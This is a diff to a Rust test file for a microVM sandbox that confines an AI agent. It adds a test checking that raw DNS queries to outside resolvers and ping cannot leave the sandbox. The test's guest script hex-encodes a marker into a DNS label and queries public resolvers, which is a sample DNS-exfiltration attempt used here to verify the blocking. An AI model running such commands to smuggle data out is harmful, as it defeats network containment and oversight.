@@ -1,6 +1,7 @@
 //! Whole microVM bottles, the Docker backend's scenarios: the agent sees
 //! dummies while the upstream gets the real token, denied hosts and direct
-//! connections and DNS all fail, the canary is nowhere the agent or a user
+//! connections and DNS all fail (also raw DNS to an outside resolver, and
+//! ping), the canary is nowhere the agent or a user
 //! can see, and nothing remains afterwards.
 //!
 //! These need a guest that boots (hardware KVM). They are gated by the boot
@@ -219,5 +220,62 @@ fn the_canary_is_nowhere_the_agent_or_a_user_can_see_and_the_ca_key_is_absent() 
         .unwrap();
     remove(&id);
     std::thread::sleep(Duration::from_millis(200));
+    assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
+}
+
+/// Raw DNS to an outside resolver and a ping: neither may leave
+/// the engine. The engine's gateway answers every port-53 query itself and,
+/// with the DNS filter the backend sets, answers NXDOMAIN without asking any
+/// upstream. Where this process may bind host port 53 on loopback (the
+/// upstream the machine names), a listener there must see no query either.
+#[test]
+fn raw_dns_to_an_outside_resolver_and_ping_never_leave_the_engine() {
+    if !booting("raw_dns_to_an_outside_resolver_and_ping_never_leave_the_engine") {
+        return;
+    }
+    let udp = std::net::UdpSocket::bind("127.0.0.1:53").ok();
+    let tcp = std::net::TcpListener::bind("127.0.0.1:53").ok();
+    if udp.is_none() || tcp.is_none() {
+        eprintln!("note: cannot bind 127.0.0.1:53 here; the upstream side is not watched");
+    }
+    for s in udp.iter() {
+        s.set_nonblocking(true).unwrap();
+    }
+    for l in tcp.iter() {
+        l.set_nonblocking(true).unwrap();
+    }
+    let rt = tokio::runtime::Runtime::new().unwrap();
+    let up = rt.block_on(Upstream::start(&[HOST]));
+    let script = r#"
+label=$(echo bot-bottle-exfil | od -An -tx1 | tr -d ' \n')
+nslookup "$label.example.com" 8.8.8.8 >/tmp/o1 2>&1; echo "udp-external=$?"; cat /tmp/o1
+nslookup example.com 1.1.1.1 >/tmp/o2 2>&1; echo "udp-external2=$?"; cat /tmp/o2
+getent hosts example.com >/dev/null && echo dns-default=resolved || echo dns-default=failed
+ping -c 1 -W 3 1.1.1.1 >/dev/null 2>&1 && echo icmp=reached || echo icmp=blocked
+"#;
+    let (code, out, id) = run_bottle("dns", script, &up, &canary());
+    assert_eq!(code, 0, "{out}");
+    for bad in [
+        "udp-external=0",
+        "udp-external2=0",
+        "dns-default=resolved",
+        "icmp=reached",
+    ] {
+        assert!(!out.contains(bad), "{bad}: {out}");
+    }
+    if let Some(s) = &udp {
+        let mut buf = [0u8; 512];
+        assert!(
+            s.recv_from(&mut buf).is_err(),
+            "a guest query reached the upstream"
+        );
+    }
+    if let Some(l) = &tcp {
+        assert!(
+            l.accept().is_err(),
+            "a guest DNS/TCP query reached the upstream"
+        );
+    }
+    remove(&id);
     assert!(leftovers(&id).is_empty(), "{:?}", leftovers(&id));
 }
